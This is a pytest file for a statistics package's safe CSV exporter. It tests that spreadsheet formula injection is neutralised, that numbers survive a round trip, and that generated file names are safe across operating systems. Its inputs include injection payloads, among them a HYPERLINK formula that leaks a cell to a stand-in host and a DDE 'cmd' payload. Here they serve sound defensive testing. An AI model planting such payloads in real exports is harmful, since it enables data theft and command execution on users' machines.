"""No cell that is written begins a formula, numbers stay numbers, and every name makes a file on every system."""

import ast
import csv
import io
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from bayesmodels.safe_labels import file_names, table_csv

PACKAGE = Path(__file__).parents[1] / "bayesmodels"
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"early")'


def rows(written):
    return list(csv.reader(io.StringIO(written.decode(), newline="")))


def begins_formula(cell):
    """Whether a spreadsheet computes a cell, by its first character; a number is no formula."""
    try:
        float(cell)
    except ValueError:
        return cell[:1] in tuple("=+-@\t\r＝＋－＠")
    return False


@pytest.mark.parametrize(
    "text",
    [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1", "--", "-", "+ 5", "- worse",
     "early;=1+1", "early\n=1+1", "early\t@x"],
)  # fmt: skip
@pytest.mark.parametrize("kind", ["object", "category", "string"])
def test_text_that_begins_a_formula_is_written_as_text(text, kind):
    table = pd.DataFrame({"group": pd.Series([text, "placebo"], dtype=kind), text: [1.5, -2.0]})
    header, *body = rows(table_csv(table))
    for cell in (*header, *(cell for row in body for cell in row)):
        assert not any(begins_formula(part) for part in re.split(r"[;\n]", cell))
    assert body[0][0].replace("'", "") == text.replace("'", "")  # nothing else is changed
    assert [row[1] for row in body] == ["1.5", "-2.0"]


@pytest.mark.parametrize(
    "words", [("+ favours early", "positive favours early"), ("- favours us", "negative favours us")]
)
def test_our_own_words_are_rephrased(words):
    assert rows(table_csv(pd.DataFrame({"direction": [words[0]]})))[1] == [words[1]]


def test_numbers_stay_numbers():
    table = pd.DataFrame(
        {"a": [-1.5, np.nan, -np.inf], "b": [-1, 2, 3], "c": ["-1.5", "+2e-3", "7"], "d": [-1.5, "x", None],
         "e": [True, False, True]}
    )  # fmt: skip
    again = pd.read_csv(io.BytesIO(table_csv(table)))
    pd.testing.assert_frame_equal(again[["a", "b", "e"]], table[["a", "b", "e"]])
    assert again["c"].tolist() == [-1.5, 0.002, 7.0]
    assert again["d"].tolist()[:2] == ["-1.5", "x"]
    assert table["c"].tolist() == ["-1.5", "+2e-3", "7"]  # the table itself is as it was


def test_every_csv_of_the_package_is_written_by_the_one_function():
    found = [
        path.name
        for path in PACKAGE.rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Attribute) and node.attr in ("to_csv", "writer", "DictWriter", "savetxt")
    ]
    assert found == ["safe_labels.py"]


NAMES = [
    "curve_alsfrs_r_all", "CON", "con", "nul.txt", "COM1", "a/b", "a\\b", "a:b", 'a<b>"|?*', "a.", "a..", ".hidden",
    "..", ".", "", " ", "a ", "é", "e\u0301", "E", "e", "x" * 300, "x" * 301, "curve_Alsfrs_R_all", "<60", ">=60", "名",
    "\u0000", "a_b", "1.5 mg", "15 mg", "lpt9.log", "difference_a/b_<60_early - delayed",
]  # fmt: skip


def test_file_names_are_safe_on_every_system_and_never_shared():
    found = file_names(NAMES)
    assert list(found) == NAMES
    assert len({name.lower() for name in found.values()}) == len(NAMES)
    for name in found.values():
        assert re.fullmatch(r"[A-Za-z0-9_.-]{1,100}", name)
        assert not name.startswith(".")
        assert not name.endswith(".")
        assert not re.match(r"(?i)(con|prn|aux|nul|com\d|lpt\d)(\.|$)", name)


def test_ordinary_names_are_kept_and_others_are_the_same_in_any_company():
    assert file_names(["curve_alsfrs_r_all", "1.5-mg"]) == {
        "curve_alsfrs_r_all": "curve_alsfrs_r_all",
        "1.5-mg": "1.5-mg",
    }
    assert file_names(["<60"])["<60"] == file_names(NAMES)["<60"]
